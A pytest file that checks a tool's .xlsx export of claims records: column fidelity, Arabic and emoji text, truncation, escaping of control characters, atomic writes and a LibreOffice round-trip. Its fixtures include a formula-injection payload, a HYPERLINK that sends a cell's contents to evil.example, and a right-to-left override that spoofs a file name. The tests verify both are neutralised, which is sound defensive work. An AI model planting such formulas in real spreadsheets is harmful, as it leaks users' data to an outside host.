"""The .xlsx export: the CSV's table in a file Excel and LibreOffice open right, read back."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from workbench.exchange import SUFFIXES, export, spreadsheet
from workbench.exchange.formats import CSV_COLUMNS, csv_row
from workbench.exchange.scope import ExportScope, ExportSet, gather
from workbench.exchange.spreadsheet import CELL_LIMIT, cell_text, write_xlsx
from workbench.workspace import Workspace

ARABIC = "شوهدت قافلة على الطريق الساحلي"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EMOJI = "Convoy 🚚 on the coast 🌊"
BIDI = "file \u202egnp.exe and \u2067عربي\u2069 text"
LONG = "x" * 40_000


def _claims(ws: Workspace) -> ExportSet:
    ws.claims.create(
        EMOJI,
        original_text=ARABIC,
        original_language="ar",
        case="قضية الساحل",
        latitude="-33.5",
        longitude="151.25",
        credibility="2",
        posted_at="2026-03-01T08:00:00+00:00",
        tags=["convoy", "-minus"],
    )
    ws.claims.create(FORMULA, source=("twitter", "@reposter"))
    ws.claims.create(BIDI)
    ws.claims.create(LONG)
    ws.claims.create("a bell\x07 and an escape\x1b inside")
    return gather(ws, ExportScope())


def _rows(path: Path) -> tuple[openpyxl.worksheet.worksheet.Worksheet, list[dict[str, object]]]:
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(2)]
    return sheet, rows


def test_the_sheet_holds_the_csvs_columns_and_cells(workspace: Workspace, tmp_path: Path) -> None:
    found = _claims(workspace)
    out = tmp_path / "claims.xlsx"
    write_xlsx(found, out)
    sheet, rows = _rows(out)

    assert sheet.title == "Claims"
    assert tuple(c.value for c in sheet[1]) == CSV_COLUMNS
    assert all(c.font.b for c in sheet[1])  # a bold header...
    assert sheet.freeze_panes == "A2"  # ...that stays on screen
    assert sheet.auto_filter.ref == f"A1:AB{len(found.claims) + 1}"  # 28 columns
    assert len(rows) == len(found.claims) == 5
    by_id = {row["id"]: row for row in rows}
    for item in found.claims:  # cell for cell what the CSV says, numbers as numbers
        expected = csv_row(item)
        got = by_id[item.claim.id]
        for column in CSV_COLUMNS:
            want = expected[column]
            if column in ("credibility", "latitude", "longitude"):
                assert got[column] == (float(want) if want else None), column
            elif item.claim.text == LONG and column == "text":
                continue  # cut: below
            else:
                assert (got[column] or "") == cell_text(want), column

    convoy = next(r for r in rows if str(r["text"]).startswith("Convoy"))
    assert ARABIC in str(convoy["original_text"]) and "قضية الساحل" in str(convoy["case"])
    assert "🚚" in str(convoy["text"]) and "🌊" in str(convoy["text"])
    assert convoy["credibility"] == 2 and isinstance(convoy["credibility"], int)
    assert (convoy["latitude"], convoy["longitude"]) == (-33.5, 151.25)
    assert convoy["posted_at"] == "2026-03-01T08:00:00+00:00"  # UTC, said in the cell
    assert str(convoy["tags"]).endswith("-minus")
    bidi = next(r for r in rows if "gnp.exe" in str(r["text"]))
    assert "\u202e" in str(bidi["text"]) or "RLO" in str(bidi["text"])  # kept, or shown
    assert "عربي" in str(bidi["text"])


def test_a_formula_looking_cell_comes_back_as_text(workspace: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "claims.xlsx"
    write_xlsx(_claims(workspace), out)
    sheet = openpyxl.load_workbook(out).active
    [cell] = [c for row in sheet.iter_rows(2) for c in row if "HYPERLINK" in str(c.value)]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA  # the CSV's guard, kept
    handle = CSV_COLUMNS.index("source_handle")
    assert sheet.cell(cell.row, handle + 1).value == "'@reposter"
    with zipfile.ZipFile(out) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere in the sheet


def test_text_is_a_string_cell_even_without_the_guard(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """openpyxl stores a str starting with "=" as a formula unless told otherwise: the
    writer tells it, whatever the row holds."""
    found = _claims(workspace)

    def unguarded(item: object) -> dict[str, str]:
        return {column: "=1+1" for column in CSV_COLUMNS}

    monkeypatch.setattr(spreadsheet, "csv_row", unguarded)
    out = tmp_path / "raw.xlsx"
    write_xlsx(found, out)
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows(2) for c in row]
    assert cells and all(c.value == "=1+1" and c.data_type == "s" for c in cells)


def test_a_cell_longer_than_excel_holds_is_cut_with_a_note(
    workspace: Workspace, tmp_path: Path
) -> None:
    out = tmp_path / "claims.xlsx"
    write_xlsx(_claims(workspace), out)
    _, rows = _rows(out)
    [text] = [str(r["text"]) for r in rows if str(r["text"]).startswith("xxx")]
    assert CELL_LIMIT - 10 < len(text) <= CELL_LIMIT  # as much as fits, never more
    kept = text.index("…")
    assert text == "x" * kept + f"…[cut: {40_000 - kept} characters]"  # the note is true


def test_cutting_counts_what_excel_counts_and_never_splits_a_character() -> None:
    emoji = "🌊" * 20_000  # 40,000 UTF-16 code units: over the limit at half as many
    cut = cell_text(emoji)
    assert len(cut.encode("utf-16-le")) // 2 <= CELL_LIMIT
    body, note = cut.split("…[cut: ")
    assert set(body) == {"🌊"} and note == f"{20_000 - len(body)} characters]"
    assert cell_text("a" * CELL_LIMIT) == "a" * CELL_LIMIT  # exactly the limit: whole
    assert cell_text(ARABIC) == ARABIC


def test_characters_xml_cannot_carry_are_shown_not_fatal(
    workspace: Workspace, tmp_path: Path
) -> None:
    assert cell_text("nul\x00 bell\x07 esc\x1b tab\t line\n") == "nul␀ bell␇ esc␛ tab\t line\n"
    assert cell_text("lone \ud800 surrogate \uffff") == "lone \ufffd surrogate \ufffd"
    out = tmp_path / "claims.xlsx"
    write_xlsx(_claims(workspace), out)  # openpyxl would raise IllegalCharacterError
    _, rows = _rows(out)
    assert any(r["text"] == "a bell␇ and an escape␛ inside" for r in rows)


def test_columns_are_as_wide_as_their_content_within_bounds(
    workspace: Workspace, tmp_path: Path
) -> None:
    out = tmp_path / "claims.xlsx"
    write_xlsx(_claims(workspace), out)
    sheet = openpyxl.load_workbook(out).active
    widths = {c.value: sheet.column_dimensions[c.column_letter].width for c in sheet[1]}
    assert all(spreadsheet.MIN_WIDTH <= w <= spreadsheet.MAX_WIDTH for w in widths.values())
    assert widths["id"] >= 36  # a UUID shows whole
    assert widths["text"] == spreadsheet.MAX_WIDTH  # the long text: capped
    assert widths["status"] < widths["id"]


def test_export_door_writes_xlsx_atomically(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _claims(workspace)
    assert SUFFIXES["xlsx"] == ".xlsx"
    out = tmp_path / "claims.xlsx"
    done = export(workspace, "xlsx", ExportScope(statuses=("unconfirmed",)), out)
    assert (done.format, done.claims) == ("xlsx", 5)
    assert zipfile.is_zipfile(out)
    before = out.read_bytes()

    real_save = openpyxl.Workbook.save

    def broken(self: openpyxl.Workbook, filename: str) -> None:
        real_save(self, filename)
        Path(filename).write_bytes(b"half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", broken)
    with pytest.raises(Exception, match="No space left"):
        export(workspace, "xlsx", ExportScope(), out)
    assert out.read_bytes() == before  # the old file, whole
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_the_arabic_and_runs_no_formula(
    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real reader: LibreOffice converts the workbook to UTF-8 CSV (filter options
    44,34,76: comma, double quote, UTF-8) and the text is as written."""
    found = _claims(workspace)
    out = tmp_path / "claims.xlsx"
    write_xlsx(found, out)
    real_row = spreadsheet.csv_row
    monkeypatch.setattr(
        spreadsheet, "csv_row", lambda item: {**real_row(item), "rationale": "=1+1"}
    )
    write_xlsx(found, tmp_path / "raw.xlsx")  # an unguarded "=" string cell
    converted = tmp_path / "converted"
    profile = (tmp_path / "lo-profile").as_uri()
    soffice = _soffice()
    assert soffice is not None
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(converted),
            str(out),
            str(tmp_path / "raw.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    with open(converted / "claims.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == CSV_COLUMNS
    convoy = next(r for r in rows if r["text"].startswith("Convoy"))
    assert ARABIC in convoy["original_text"] and "🚚" in convoy["text"]
    assert "قضية الساحل" in convoy["case"] and convoy["latitude"] == "-33.5"
    assert any(r["text"] == "'" + FORMULA for r in rows)
    with open(converted / "raw.csv", encoding="utf-8", newline="") as fh:
        raw = list(csv.DictReader(fh))
    assert raw and all(r["rationale"] == "=1+1" for r in raw)  # shown, not computed to 2
